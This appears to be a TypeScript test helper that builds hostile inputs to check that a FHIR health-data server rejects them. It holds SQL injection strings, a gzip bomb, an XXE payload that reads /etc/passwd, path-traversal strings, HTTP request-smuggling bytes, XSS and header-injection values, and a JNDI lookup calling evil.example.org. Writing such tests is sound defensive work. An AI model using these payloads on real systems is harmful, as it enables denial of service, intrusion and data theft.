/** Searches, bodies, paths and headers that are made to cost much, to break something, or to get where nobody may go. */
import { gzipSync } from 'node:zlib';
import { write } from './plant.ts';
import type { Asked } from './raw-http.ts';

export interface Evil {
  readonly name: string;
  readonly asked: Asked;
}

/** A hundred searches and more, below a FHIR view. */
export function evilSearches(fhir: string): readonly Evil[] {
  const many = (text: string, times: number) => Array.from({ length: times }, () => text);
  const long = 'a'.repeat(3_000);
  const queries = [
    ...['1000000000', '-1', '0', '1e9', '1.5', 'NaN', '', '99999999999999999999', '0x10', '१०'].map((count) => `Claim?_count=${count}`),
    ...['ge', 'ap0001', 'lt9999-12-31', 'sa', 'ne', 'eb0000', '2026-13-45', '2026-02-30T25:61:61Z', '-2026', '+1e100', 'ge2026-01-01T00:00:00+99:99'].map((date) => `Claim?created=${date}`),
    ...['_include=*', '_include:iterate=*', '_include=Claim:patient:*', '_include=*:*', '_include=Claim', '_include=:', '_include=Claim:patient:Patient:Patient', '_revinclude=*', '_revinclude:iterate=*:*'].map((one) => `Claim?${one}`),
    `Patient?${many('_revinclude:iterate=Task:part-of', 40).join('&')}`,
    `Claim?${many('_include=Claim:patient', 49).join('&')}`,
    `Claim?${many('patient=x', 500).join('&')}`,
    `Claim?patient=${many('x', 5_000).join(',')}`,
    `Claim?_id=${many('x', 3_000).join(',')}`,
    `Claim?status=${many('active', 101).join(',')}`,
    ...['name:contains', 'name:text', 'name:in', 'name:not-in', 'name:below', 'name:above', 'name:regex', 'name:', ':name', 'name::exact'].map((one) => `Patient?${one}=a`),
    ...['%25', '%', '_', '*', '.*', '(a+)+$', "'; DROP TABLE resources; --", "' OR '1'='1", '\\', '\\,', '\\$', '$', '|', '||', '|||', ',', ',,,,'].map((one) => `Patient?name=${encodeURIComponent(one)}`),
    ...['%00', '%ff', '%c0%af', '%ED%A0%80', '%', '%zz', '%2', '\u202e', '𝕏'.repeat(200)].map((one) => `Claim?identifier=${one}`),
    ...['patient.patient.patient.patient=x', 'patient.name.name=x', 'patient:Patient.organization.partof.partof.name=x', '_has:Task:patient:_has:Task:part-of:status=x', '_has:Claim:patient=x', '_has:::=x', '_has=x'].map((one) => `Patient?${one}`),
    ...['__proto__=x', 'constructor=x', 'constructor.prototype=x', 'toString=x', 'hasOwnProperty=x', '__proto__[a]=b', 'a[b][c]=d', 'patient[]=x'].map((one) => `Claim?${one}`),
    ...['_sort=', '_sort=-', '_sort=nonsense', '_sort=-patient,-patient,-patient', `_sort=${many('-created', 300).join(',')}`].map((one) => `Claim?${one}`),
    ...['_filter=name co "a"', '_query=everything', '_text=a', '_content=a', '_list=x', '_contained=both', '_containedType=container', '_score=true', '_type=Claim', '_at=2026'].map((one) => `Claim?${encodeURI(one)}`),
    ...['_elements=', `_elements=${many('status', 2_000).join(',')}`, '_elements=__proto__', '_summary=everything', '_total=infinite', '_format=text/html', '_format=xml', '_page=x', '_page=', `_page=${'A'.repeat(4_000)}`].map((one) => `Claim?${one}`),
    `Claim?${long}=x`,
    `Claim?status=${long}`,
    `Claim?identifier=${long}|${long}`,
    `Claim?${'&'.repeat(2_000)}`,
    `Claim?${'?'.repeat(500)}`,
    `Claim/_history?_since=yesterday`,
    `Claim/_history?_count=1000000&_since=0001-01-01T00:00:00Z`,
  ]; // prettier-ignore
  return queries.map((query) => ({ name: query.slice(0, 120), asked: { path: `${fhir}/${query}` } }));
}

const JSON_HEADERS = { 'content-type': 'application/fhir+json' };

/** Bodies that are too much of something; each must be refused with 400, 413, 415 or 422. */
export function bombs(fhir: string): readonly Evil[] {
  const entry = {
    resource: { resourceType: 'Task', status: 'requested', intent: 'order' },
    request: { method: 'POST', url: 'Task' },
  };
  const bundle = (entries: readonly unknown[], type = 'transaction'): Asked =>
    write('POST', fhir, { resourceType: 'Bundle', type, entry: entries });
  const nested = (depth: number, [open, close]: readonly [string, string]) =>
    `${open.repeat(depth)}${close.repeat(depth)}`;
  const body = (text: string | Buffer, headers: Readonly<Record<string, string>> = {}): Asked => ({
    method: 'POST',
    path: `${fhir}/Task`,
    headers: { ...JSON_HEADERS, ...headers },
    body: text,
  });
  const task = JSON.stringify(entry.resource);
  const references = Array.from({ length: 10_001 }, (_, n) => ({ reference: `Task/${n}` }));
  const inSelf = (depth: number): object =>
    depth === 0
      ? entry.resource
      : {
          resourceType: 'Bundle',
          type: 'transaction',
          entry: [{ resource: inSelf(depth - 1), request: { method: 'POST', url: 'Bundle' } }],
        };
  const list: [string, Asked][] = [
    ['2,001 entries', bundle(Array.from({ length: 2_001 }, () => entry))],
    ['2,001 entries in a batch', bundle(Array.from({ length: 2_001 }, () => ({ request: { method: 'GET', url: 'Task' } })), 'batch')],
    ['10,001 references', bundle([{ ...entry, resource: { ...entry.resource, partOf: references } }])],
    ['65 levels of lists', body(`{"resourceType":"Task","x":${nested(65, ['[', ']'])}}`)],
    ['65 levels of objects', body(`{"resourceType":"Task","x":${nested(65, ['{"a":', '}']).replace('{"a":}', '{}')}}`)],
    ['100,000 levels of lists', body(nested(100_000, ['[', ']']))],
    ['100,000 levels of objects', body(`${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`)],
    ['100,000 levels without an end', body('['.repeat(100_000))],
    ['eleven megabytes', body(`{"resourceType":"Task","description":"${'x'.repeat(11 * 1024 * 1024)}"}`)],
    ['a gigabyte in a megabyte', body(gzipSync(Buffer.alloc(200 * 1024 * 1024, 32)), { 'content-encoding': 'gzip' })],
    ['gzip twice', body(gzipSync(gzipSync(task)), { 'content-encoding': 'gzip, gzip' })],
    ['bundles in bundles', write('POST', fhir, inSelf(10))],
    ['a transaction in a transaction', bundle([{ resource: { resourceType: 'Bundle', type: 'transaction', entry: [entry] }, request: { method: 'POST', url: '' } }])],
    ['the same urn twice', bundle([circle('a', 'a'), circle('a', 'a')])],
    ['an entry that is null', bundle([null])],
    ['an entry that is a number', bundle([7])],
    ['entries that are an object', write('POST', fhir, { resourceType: 'Bundle', type: 'transaction', entry: { ...entry } })],
    ['a method nobody has', bundle([{ request: { method: 'TRACE', url: 'Task' } }])],
    ['an address elsewhere', bundle([{ request: { method: 'GET', url: 'http://evil.example.org/Task' } }])],
    ['an address that climbs', bundle([{ request: { method: 'GET', url: '../../oauth/token' } }])],
    ['a list', body('[]')],
    ['a number', body('7')],
    ['null', body('null')],
    ['text', body('"Task"')],
    ['nothing', body('')],
    ['half', body(task.slice(0, 20))],
    ['a NUL', body(task.replace('requested', 'req\\u0000uested'))],
    ['half a character', body(Buffer.concat([Buffer.from('{"resourceType":"Task","description":"'), Buffer.from([0xff, 0xfe]), Buffer.from('"}')]))],
    ['its own prototype', body('{"resourceType":"Task","__proto__":{"status":"x"},"constructor":{"prototype":{"a":1}}}')],
    ['a type that is a prototype', body('{"resourceType":"__proto__"}')],
    ['a type that is an object', body('{"resourceType":{"a":1}}')],
    ['another type', body('{"resourceType":"Claim"}')],
    ['a key twice', body('{"resourceType":"Task","status":"requested","status":"x","intent":"order","resourceType":"Claim"}')],
    ['a number of a million digits', body(`{"resourceType":"Task","priority":${'9'.repeat(1_000_000)}}`)],
    ['half a million keys', body(`{"resourceType":"Task",${Array.from({ length: 500_000 }, (_, n) => `"k${n}":1`).join()}}`)],
    ['XML', { ...body('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'), headers: { 'content-type': 'application/fhir+xml' } }],
    ['a form', { ...body('resourceType=Task'), headers: { 'content-type': 'application/x-www-form-urlencoded' } }],
    ['UTF-16', body(Buffer.from(task, 'utf16le'), { 'content-type': 'application/fhir+json; charset=utf-16' })],
    ['70 levels behind a quotation mark of UTF-16', body(Buffer.from(`{"resourceType":"Task","a":"\\\"","b":${nested(70, ['[', ']'])}}`, 'utf16le'), { 'content-type': 'application/fhir+json; charset=utf-16le' })],
    ['UTF-32', body(Buffer.from(task), { 'content-type': 'application/fhir+json; charset=utf-32' })],
    ['Latin-1', body(task, { 'content-type': 'application/fhir+json; charset=iso-8859-1' })],
    ['a patch of everything', { method: 'PATCH', path: `${fhir}/Task/x`, headers: { 'content-type': 'application/json-patch+json' }, body: JSON.stringify(Array.from({ length: 100_000 }, () => ({ op: 'copy', from: '', path: '/x' }))) }],
    ['a patch of the prototype', { method: 'PATCH', path: `${fhir}/Task/x`, headers: { 'content-type': 'application/json-patch+json' }, body: '[{"op":"add","path":"/__proto__/a","value":1}]' }],
  ]; // prettier-ignore
  return list.map(([name, asked]) => ({ name, asked }));
}

const circle = (self: string, other: string) => ({
  fullUrl: `urn:uuid:00000000-0000-4000-8000-00000000000${self}`,
  resource: { resourceType: 'Task', status: 'requested', intent: 'order', partOf: [{ reference: `urn:uuid:00000000-0000-4000-8000-00000000000${other}` }] },
  request: { method: 'POST', url: 'Task' },
}); // prettier-ignore

/** Paths that would leave where they begin, if anybody followed them. */
export function climbingPaths(fhir: string): readonly Evil[] {
  const climbs = [
    '../',
    '..%2f',
    '..%5c',
    '%2e%2e/',
    '%2e%2e%2f',
    '..;/',
    '.../',
    '....//',
    '%c0%ae%c0%ae/',
    '%252e%252e%252f',
    '..\\',
  ];
  const starts = ['/assets/', '/', `${fhir}/`, `${fhir}/Binary/`, `${fhir}/Claim/x/`, '/s/', '/t/north/'];
  const targets = ['etc/passwd', 'package.json', 'server/main.ts', 'data/key'];
  return starts.flatMap((start) =>
    climbs.flatMap((climb) =>
      targets.map((target) => {
        const path = `${start}${climb.repeat(12)}${target}`;
        return { name: path.slice(0, 80), asked: { path } };
      }),
    ),
  );
}

/** Whole requests as bytes: what no proper client would write. `host` = `127.0.0.1:port`. */
export function brokenRequests(
  host: string,
  authorization: string,
): readonly { readonly name: string; readonly bytes: string }[] {
  const head = (line: string, ...more: string[]) =>
    [line, `Host: ${host}`, `Authorization: ${authorization}`, ...more, '', ''].join('\r\n');
  const smuggled = 'GET /fhir/r4/Patient HTTP/1.1\r\nHost: x\r\n\r\n';
  return [
    { name: 'a length and chunks', bytes: `${head('POST /fhir/r4/Task HTTP/1.1', 'Content-Type: application/fhir+json', 'Content-Length: 4', 'Transfer-Encoding: chunked')}0\r\n\r\n${smuggled}` },
    { name: 'two lengths', bytes: `${head('POST /fhir/r4/Task HTTP/1.1', 'Content-Length: 0', 'Content-Length: 44')}${smuggled}` },
    { name: 'chunks by another name', bytes: `${head('POST /fhir/r4/Task HTTP/1.1', 'Transfer-Encoding: xchunked')}${smuggled}` },
    { name: 'a length that is negative', bytes: head('POST /fhir/r4/Task HTTP/1.1', 'Content-Length: -1') },
    { name: 'a header over two lines', bytes: head('GET /fhir/r4/Claim HTTP/1.1', 'X-Request-Id: a', ' b: c') },
    { name: 'a header without an end', bytes: `GET /fhir/r4/Claim HTTP/1.1\r\nHost: ${host}\r\nX: ${'a'.repeat(100_000)}` },
    { name: 'a thousand headers', bytes: head('GET /fhir/r4/Claim HTTP/1.1', ...Array.from({ length: 3_000 }, (_, n) => `X-${n}: 1`)) },
    { name: 'a path of fifty thousand letters', bytes: head(`GET /fhir/r4/${'a'.repeat(50_000)} HTTP/1.1`) },
    { name: 'no path', bytes: head('GET HTTP/1.1') },
    { name: 'a whole URL of elsewhere', bytes: head('GET http://evil.example.org/fhir/r4/Claim HTTP/1.1') },
    { name: 'HTTP/0.9', bytes: 'GET /fhir/r4/Claim\r\n\r\n' },
    { name: 'HTTP/3.7', bytes: head('GET /fhir/r4/Claim HTTP/3.7') },
    { name: 'a method nobody has', bytes: head('STEAL /fhir/r4/Claim HTTP/1.1') },
    { name: 'CONNECT', bytes: head('CONNECT evil.example.org:443 HTTP/1.1') },
    { name: 'TRACE', bytes: head('TRACE /fhir/r4/Claim HTTP/1.1') },
    { name: 'an upgrade', bytes: head('GET /fhir/r4/Claim HTTP/1.1', 'Connection: Upgrade', 'Upgrade: websocket') },
    { name: 'TLS', bytes: '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03' },
    { name: 'zeros', bytes: '\0'.repeat(1_000) },
  ]; // prettier-ignore
}

/** Values that would add a header or a line to a log, if anybody wrote them there as they are. */
export const injections: readonly string[] = [
  '%0d%0aSet-Cookie:%20a=b',
  '%0aSet-Cookie:%20a=b',
  '%0d%0a%0d%0a<script>alert(1)</script>',
  '%E5%98%8A%E5%98%8DSet-Cookie:%20a=b',
  '%u000aSet-Cookie:%20a=b',
  '%1b[31mred',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '${jndi:ldap://evil.example.org/a}',
  '{{7*7}}',
];
